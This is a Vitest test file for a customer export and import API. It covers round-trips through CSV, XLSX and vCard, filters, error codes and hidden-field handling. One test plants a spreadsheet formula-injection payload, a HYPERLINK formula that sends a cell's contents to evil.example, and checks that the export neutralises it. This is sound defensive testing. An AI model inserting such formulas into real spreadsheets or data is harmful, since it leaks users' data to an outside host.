import { afterAll, beforeAll, expect, test } from 'vitest'
import { sampleFile } from '#server/demo/sample-files.ts'
import { startTestApp, type TestApp, type TestWorkspace } from '#test/support/app.ts'
import { importFile } from '#test/support/imports.ts'

let t: TestApp
let full: TestWorkspace
beforeAll(async () => {
  t = await startTestApp()
  full = await t.addWorkspace('Full')
  const content = Buffer.concat([...sampleFile({ seed: 9, count: 150, until: new Date('2026-07-01') })])
  expect(await importFile(t, full.admin, 'world.csv', content)).toMatchObject({ created: 150 })
})
afterAll(() => t.close())

const file = async (workspace: TestWorkspace, query: string): Promise<Buffer> => {
  const answer = await fetch(`${t.url}/api/v1/exports/customers?${query}`, {
    headers: { authorization: `Bearer ${workspace.adminKey}` },
  })
  expect(answer.status).toBe(200)
  return Buffer.from(await answer.arrayBuffer())
}

/** Everything about the customers of a workspace that an export carries. */
async function world({ admin }: TestWorkspace, without: string[] = []) {
  const found: Record<string, unknown>[] = []
  const { items } = (await admin.get('/customers?limit=500&filter[status]=all&sort=number')).body
  for (const { id } of items) {
    const { body } = await admin.get(`/customers/${id}`)
    const { id: _, updated_at: _u, version: _v, abilities: _a, photo_url: _p, group, tags, ...rest } = body
    const record = { ...rest, group: group?.name, tags: tags.map((tag: { name: string }) => tag.name) }
    for (const name of without) delete record[name]
    found.push(record)
  }
  return found
}

test.each([
  ['csv', 'x.csv'],
  ['csv&separator=;', 'x.csv'],
  ['xlsx', 'x.xlsx'],
])(
  'what is exported as %s and imported elsewhere is the same world',
  async (format, name) => {
    const empty = await t.addWorkspace(`Empty ${format}`)
    const exported = await file(full, `format=${format}&filter[status]=all`)
    const done = await importFile(t, empty.admin, name, exported)
    expect(done).toMatchObject({ rows_read: 150, created: 150, rejected: 0 })
    // A table has no place for the labels of addresses and numbers.
    const plain = (list: Record<string, unknown>[]) =>
      JSON.parse(JSON.stringify(list, (key, value) => (key === 'label' ? undefined : value)))
    expect(plain(await world(empty))).toEqual(plain(await world(full)))
    expect(await importFile(t, empty.admin, name, exported)).toMatchObject({ skipped: 150 })
  },
  120_000,
)

test('cards keep names, labels and all contact data', async () => {
  const empty = await t.addWorkspace('Cards')
  const done = await importFile(
    t,
    empty.admin,
    'x.vcf',
    await file(full, 'format=vcard&filter[status]=all&sort=number'),
  )
  expect(done).toMatchObject({ rows_read: 150, created: 150 })
  // Cards carry no number, VAT number, status, group or date.
  const without = ['number', 'vat_number', 'status', 'group', 'created_at', 'addresses']
  const sorted = (list: object[]) => list.map((one) => JSON.stringify(one)).sort()
  expect(sorted(await world(empty, without))).toEqual(sorted(await world(full, without)))
}, 120_000)

test('the filter, the search and the columns of the list hold', async () => {
  const { count } = (await full.admin.get('/customers?filter[country]=NL&count=exact')).body
  const text = (await file(full, 'format=csv&filter[country]=NL&columns=number,name,country')).toString()
  const lines = text.trimEnd().split('\r\n')
  expect(lines[0]).toBe('\ufeffCustomer number,Name,Country')
  expect(lines.length - 1).toBe(count.value)
  expect(lines.slice(1).every((line) => line.endsWith(',NL'))).toBe(true)
  const [one] = (await full.admin.get('/customers?limit=1')).body.items
  const json = JSON.parse((await file(full, `format=json&ids=${one.id}`)).toString())
  expect(json).toHaveLength(1)
  expect(json[0]).toMatchObject({ id: one.id, name: one.name, emails: expect.any(Array) })
})

test('what a request asks wrongly is refused in words before the file begins', async () => {
  const { admin } = full
  expect(await admin.get('/exports/customers?format=csv&columns=shoe_size')).toMatchObject({
    status: 422,
    body: { code: 'export.column_unknown' },
  })
  expect(await admin.get('/exports/customers?format=csv&sort=shoe_size')).toMatchObject({
    status: 422,
    body: { code: 'sort.unknown' },
  })
  expect(await admin.get('/exports/customers?format=csv&filter[country]=XX')).toMatchObject({
    status: 422,
    body: { code: 'filter.invalid' },
  })
  expect(await admin.get('/exports/customers?format=csv&ids=1,2')).toMatchObject({
    status: 422,
    body: { code: 'export.ids' },
  })
  expect(await (await full.withScopes('customers.read')).get('/exports/customers?format=csv')).toMatchObject({
    status: 403,
  })
})

test('nothing in an export is calculated by a spreadsheet, and an import takes it as it was', async () => {
  const home = await t.addWorkspace('Formula')
  const formula = '=HYPERLINK("http://evil.example/?x="&A1)'
  await home.admin.post('/customers', { kind: 'organisation', company_name: formula })
  const exported = (await file(home, 'format=csv&columns=company')).toString()
  expect(exported.split('\r\n')[1]).toBe(`"'${formula.replaceAll('"', '""')}"`)
  const other = await t.addWorkspace('Formula 2')
  await importFile(t, other.admin, 'x.csv', exported)
  expect((await other.admin.get('/customers')).body.items[0].company_name).toBe(formula)
})

test('fields that are hidden from a person stay out of every kind of export, and out of imports', async () => {
  const { app } = t
  const { exportCustomers } = await import('./export-customers.ts')
  const { readContext, systemPrincipal } = await import('#platform/context.ts')
  const principal = {
    ...systemPrincipal(full.id),
    access: {
      administrator: false,
      permissions: new Set(['customers.read', 'customers.export', 'customers.import']),
      hiddenFields: new Set(['customers.email', 'customers.birthday', 'customers.address', 'customers.tags']),
    },
  }
  for (const format of ['csv', 'json', 'vcard'] as const) {
    const request = { format, filter: { status: 'all' }, sort: 'name', separator: ',' as const }
    let text = ''
    for await (const piece of (await exportCustomers(readContext(app, principal, 'test'), request)).body)
      text += piece
    expect(text.length).toBeGreaterThan(1000)
    expect(text).not.toMatch(/@|BDAY|Birthday|ADR|Amsterdam|newsletter/)
  }
})
